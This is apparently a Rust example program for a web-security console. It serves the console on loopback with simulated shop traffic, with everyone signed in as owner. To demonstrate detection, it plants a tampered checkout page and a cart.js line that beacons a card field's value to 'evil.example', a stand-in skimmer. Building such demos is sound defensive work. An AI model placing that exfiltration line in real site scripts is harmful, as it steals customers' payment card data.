//! Serves the console over plain HTTP on loopback, with made-up traffic and nobody to sign in as: everyone is the
//! owner. For looking at pages: `cargo run -p gabion-console --example console -- 127.0.0.1:9500`.
#![allow(clippy::unwrap_used, clippy::print_stdout)]

use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;

use axum::extract::{Request, State};
use axum::middleware::{Next, from_fn};
use axum::response::{IntoResponse, Response};
use axum::routing::any;
use gabion_console::control::Demo;
use gabion_core::{EventKind, Severity};
use http::{HeaderValue, StatusCode};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpListener, TcpStream};

#[path = "../tests/it/fake.rs"]
mod fake;
#[allow(dead_code, reason = "the example uses a part of what tests do")]
#[path = "../tests/it/harness.rs"]
mod harness;
#[allow(dead_code, reason = "the example uses a part of what tests do")]
#[path = "../tests/it/quarantine.rs"]
mod quarantine;
#[allow(dead_code, reason = "the example uses a part of what tests do")]
#[path = "../tests/it/sights.rs"]
mod sights;

use gabion_markup::PageClass;
use gabion_pages::decision::Approval;
use harness::Harness;

const SIGNED_IN: EventKind = EventKind::new("staff.signed_in", 1, Severity::Info);
const REFUSED: EventKind = EventKind::new("edge.request_refused", 1, Severity::Info);
const FAILED: EventKind = EventKind::new("edge.shop_failed", 1, Severity::Warning);
const DOWN: EventKind = EventKind::new("edge.endpoint_down", 1, Severity::Critical);

#[tokio::main(flavor = "current_thread")]
async fn main() {
    let address = std::env::args().nth(1).unwrap_or_else(|| "127.0.0.1:9500".to_owned());
    let harness = Arc::new(Harness::new().await);
    harness.clock.set(gabion_core::Timestamp::from_seconds(1_772_366_400));
    harness.control.state.lock().unwrap().demo = Some(Demo {
        shielded: "https://shop.localhost:8443".into(),
        naked: Some("http://naked.localhost:8000".into()),
    });
    // The harness's shop: of its two endpoints only the first one answers.
    let shop = TcpListener::bind("127.0.0.1:8081").await.unwrap();
    let requests = axum::Router::new().fallback(any(answer)).with_state(Arc::new(AtomicU64::new(0)));
    tokio::spawn(async move { axum::serve(shop, requests).await });
    tokio::spawn(make_events(Arc::clone(&harness)));
    tokio::spawn(visit(Arc::clone(&harness)));
    tokio::spawn(run_clock(Arc::clone(&harness)));
    harness.limit_to_one_request();
    tokio::spawn(hurry(Arc::clone(&harness)));

    fill_inventory(&harness).await;
    for name in
        ["avatar.php.png", "invoice of the tea that nobody ordered, with a very long name.csv", "menu.svg"]
    {
        harness.uploads.keep(name);
    }

    let router = harness.router.clone().layer(from_fn(as_owner));
    let listener = TcpListener::bind(&address).await.unwrap();
    println!("http://{address}/");
    axum::serve(listener, router).await.unwrap();
}

/// Signs everyone in, and gives requests the host name that the harness's plane answers to.
async fn as_owner(mut request: Request, next: Next) -> Response {
    let headers = request.headers_mut();
    headers.entry("x-role").or_insert(HeaderValue::from_static("owner"));
    headers.insert("host", HeaderValue::from_static("console.test"));
    next.run(request).await
}

/// A shop that takes a few milliseconds and sometimes fails.
async fn answer(State(count): State<Arc<AtomicU64>>) -> Response {
    let number = count.fetch_add(1, Ordering::Relaxed);
    tokio::time::sleep(Duration::from_millis(4 + number * number % 17)).await;
    match number % 97 {
        0 => StatusCode::INTERNAL_SERVER_ERROR.into_response(),
        7 | 40 => StatusCode::NOT_FOUND.into_response(),
        11 | 60 | 80 => (StatusCode::SEE_OTHER, [("location", "/cart")]).into_response(),
        _ => "tea".into_response(),
    }
}

/// Pages of the shop: a checkout that somebody approved, other pages nobody looked at, and a skimmer.
async fn fill_inventory(harness: &Harness) {
    let tags = "<script src=\"https://www.googletagmanager.com/gtm.js\"></script>\
        <script src=\"https://cdn.jsdelivr.net/npm/slider@2/slider.min.js\"></script>\
        <img src=\"https://www.facebook.com/tr\"><link rel=stylesheet href=\"https://fonts.googleapis.com/css\">\
        <iframe src=\"https://www.youtube-nocookie.com/embed/tea\"></iframe>";
    let login = "<script src=\"/static/cart.js\"></script><form action=\"/login\"><input type=password name=p>\
        <input type=email autocomplete=email></form><script src=\"https://js.hcaptcha.com/1/api.js\"></script>";
    harness.serve(PageClass::Other, "/", tags).await;
    harness.serve(PageClass::SignIn, "/login", login).await;
    harness.checkout().await;
    let site = sights::SITE.parse().unwrap();
    let by = gabion_core::Actor::Staff("stf_00000000000000000000000001".into());
    let rule = |path: &str, class| gabion_markup::class::ClassRule { path: path.parse().unwrap(), class };
    let rules = vec![rule("/checkout", PageClass::Payment), rule("/login", PageClass::SignIn)];
    harness.pages.set_classes(&site, rules, by.clone()).await.unwrap();
    let approval = Approval {
        justification: Some("Part of our checkout".into()),
        owner: Some("Mara".into()),
        with_destinations: true,
        with_headers: true,
        ..Approval::default()
    };
    harness.pages.approve_class(&site, PageClass::Payment, approval, by).await.unwrap();
    harness.clock.advance(Duration::from_secs(3_600));
    let tampered = format!("{}{}", sights::CHECKOUT, sights::SKIMMER);
    harness.serve(PageClass::Payment, "/checkout", &tampered).await;
    let changed = "cart.show();\nnavigator.sendBeacon('https://evil.example/c', card.value);";
    harness.serve_script("https://shop.example/static/cart.js", changed).await;
}

/// Clients above a limit, some more than others.
async fn hurry(harness: Arc<Harness>) {
    let (_, address) = harness.edge.addresses()[0];
    for round in 0_u64.. {
        for (client, every) in [("203.0.113.9", 1), ("2001:db8:4:7::12", 3), ("198.51.100.23", 7)] {
            if round % every > 0 {
                continue;
            }
            let mut stream = TcpStream::connect(address).await.unwrap();
            let head = format!(
                "GET / HTTP/1.1\r\nHost: shop.example\r\nX-Forwarded-For: {client}\r\nConnection: close\r\n\r\n"
            );
            stream.write_all(head.as_bytes()).await.unwrap();
            stream.read_to_end(&mut Vec::new()).await.unwrap();
        }
        tokio::time::sleep(Duration::from_millis(250)).await;
    }
}

/// Customers of the shop.
async fn visit(harness: Arc<Harness>) {
    let (_, address) = harness.edge.addresses()[0];
    loop {
        let mut stream = TcpStream::connect(address).await.unwrap();
        let head = "GET / HTTP/1.1\r\nHost: shop.example\r\nConnection: close\r\n\r\n";
        stream.write_all(head.as_bytes()).await.unwrap();
        let mut answer = Vec::new();
        stream.read_to_end(&mut answer).await.unwrap();
    }
}

/// The harness's clock stands still by itself.
async fn run_clock(harness: Arc<Harness>) {
    loop {
        tokio::time::sleep(Duration::from_millis(100)).await;
        harness.clock.advance(Duration::from_millis(100));
    }
}

async fn make_events(harness: Arc<Harness>) {
    for number in 0_i64.. {
        let event = match number % 7 {
            0 => harness.event(&SIGNED_IN).field("method", "password"),
            1 => harness.event(&DOWN).entity("upstream", "shop").field("error", "connection refused"),
            2 | 3 => harness
                .event(&FAILED)
                .entity("upstream", "shop")
                .field("status", 502)
                .field("path", "/checkout"),
            _ => harness
                .event(&REFUSED)
                .field("status", 421)
                .field("reason", "no site is configured for host evil.example")
                .field("path", "/wp-login.php")
                .personal("address", "192.0.2.7"),
        };
        if number % 7 == 0 {
            harness.record(event).await
        } else {
            harness.lane.offer(event)
        }
        tokio::time::sleep(Duration::from_secs(2)).await;
    }
}
